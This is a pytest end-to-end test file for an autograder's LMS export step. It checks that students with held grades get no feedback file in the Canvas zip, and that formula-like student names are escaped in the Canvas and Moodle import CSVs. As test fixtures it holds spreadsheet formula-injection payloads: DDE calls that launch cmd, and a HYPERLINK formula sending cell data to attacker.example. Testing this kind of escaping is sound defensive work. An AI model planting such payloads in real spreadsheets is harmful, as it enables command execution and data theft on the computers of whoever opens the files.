"""What leaves for the LMS after ``course grade`` and ``course manual``, attacked through the
real commands on a small class of the toy assignment:

- held rows: a student the LMS import holds (code the rules flagged; two uploads whose points differ)
  gets no file in ``canvas_feedback.zip``: their feedback carries the points the import holds.
- formula names: a student's name (Canvas ``Student``, Moodle ``Full name``) that a spreadsheet would run as a
  formula reaches ``canvas_import.csv`` / ``moodle_import.csv`` as text, and the LMS still finds
  every student (Canvas by ``ID``, Moodle by ``Identifier``).
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import hostile
import lms_samples
import pytest
from test_grade_lms import fill_by_column, with_answer

from autograder.csvcells import FORMULA_START

REPO = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.e2e
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://attacker.example/?g="&F4,"open")'
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
HONEST = "evil_10100_20000_00_toy.ipynb"                       # its name in Canvas is DDE
FLAGGED = "flagged_10101_20001_00_toy.ipynb"                   # held: code the rules flag
TWICE, TWICE_LATE = "twice_10102_20002_00_toy.ipynb", "twice_LATE_10102_20099_00_toy.ipynb"  # held: 6 and 1
MOODLE = "Evil Student_777_assignsubmission_file_/00_toy.ipynb"


def course(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "course", *args], capture_output=True, text=True,
                          timeout=600, cwd=REPO, env=dict(os.environ, OMP_NUM_THREADS="1"))


@pytest.fixture(scope="module")
def week(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("exportfaults")
    os.chmod(root, 0o755)
    subs = root / "class"
    subs.mkdir()
    answer = with_answer("The loss falls fast, then flattens.", "plt.show()")
    (subs / HONEST).write_bytes(answer)
    (subs / FLAGGED).write_bytes(hostile.with_cells(after=["import os\nprint(os.listdir('/'))"]))
    (subs / TWICE).write_bytes(answer)
    (subs / TWICE_LATE).write_bytes(hostile.BLANK.read_bytes())
    (subs / MOODLE).parent.mkdir()
    (subs / MOODLE).write_bytes(answer)
    canvas = root / "gradebook.csv"
    canvas.write_bytes(lms_samples.canvas_gradebook([(DDE, "10100", "", "", "A"),
                                                     (LINK, "10101", "", "", "A"),
                                                     ("Twice, Tom", "10102", "", "-sis", "@A")]))
    moodle = root / "worksheet.csv"
    moodle.write_bytes(lms_samples.moodle_worksheet([("777", AT), ("778", "+Not Graded")]))
    out = root / "out"
    graded = course("grade", str(subs), "--assignment", str(hostile.FIXTURE), "--out", str(out),
                    "--workers", "2", "--no-progress", "--no-similarity",
                            "--export-partial", "--gradebook", str(canvas))
    zip_after_grading = _zip_names(out)
    filled = fill_by_column(out / "manual.csv", root / "filled.csv",
                            {f: "1" for f in (HONEST, FLAGGED, TWICE, TWICE_LATE, MOODLE)})
    merged = course("manual", str(out), str(filled))
    to_moodle = course("manual", str(out), "--export-partial", "--gradebook", str(moodle))
    return {"out": out, "graded": graded, "merged": merged, "to_moodle": to_moodle,
            "zip_after_grading": zip_after_grading}


def _zip_names(out: Path) -> dict[str, str]:
    with zipfile.ZipFile(out / "canvas_feedback.zip") as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist()}


def test_the_commands_finish(week):
    for res in (week["graded"], week["merged"], week["to_moodle"]):
        assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]


def test_f10_held_students_get_no_feedback_file_in_the_canvas_zip(week):
    for step in ("graded", "merged"):
        assert "canvas id 10101: " in week[step].stdout and "canvas id 10102: " in week[step].stdout  # held
        assert ("HELD from canvas_feedback.zip: the feedback of 2 students whose grade is held (see HELD) "
                f"is left out, to hand back once you decide it: {FLAGGED}, {TWICE}, {TWICE_LATE}"
                ) in week[step].stdout
        assert "canvas_feedback.zip: 1 file for 1 student," in week[step].stdout
    assert list(week["zip_after_grading"]) == ["evil_10100_20000_feedback.html"]
    files = _zip_names(week["out"])                     # after course manual: the totals are in it
    assert list(files) == ["evil_10100_20000_feedback.html"]
    assert "<strong>Total: 6.0 / 6.0 points</strong>" in files["evil_10100_20000_feedback.html"]


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_f03_no_gradebook_cell_reaches_the_imports_as_a_formula(week):
    out = week["out"]
    canvas = _cells(out / "canvas_import.csv")
    assert canvas[3:] == [["'" + DDE, "10100", "", "", "A", "6"]]     # held students: not in the import
    got = lms_samples.canvas_import((out / "canvas_import.csv").read_bytes())   # Canvas finds them by ID
    assert got["grades"] == {("10100", "4700"): "6"} and got["assignments"] == {"4700": "00 Toy (4700)"}
    moodle = _cells(out / "moodle_import.csv")
    header = moodle[0]
    rows = {r[header.index("Identifier")]: dict(zip(header, r, strict=True)) for r in moodle[1:]}
    assert rows["Participant 777"]["Full name"] == "'" + AT and rows["Participant 777"]["Grade"] == "6"
    assert rows["Participant 778"]["Full name"] == "'+Not Graded" and rows["Participant 778"]["Grade"] == ""
    assert rows["Participant 777"]["Feedback comments"].startswith("<h1>00_toy: feedback for Evil Student")
    assert rows["Participant 777"]["Last modified (grade)"] == "-"       # Moodle reads it back: as it was
    for name in ("canvas_import.csv", "moodle_import.csv"):
        for row in _cells(out / name)[1:]:
            assert not [c for c in row if c.startswith(FORMULA_START) and c != "-"], (name, row)
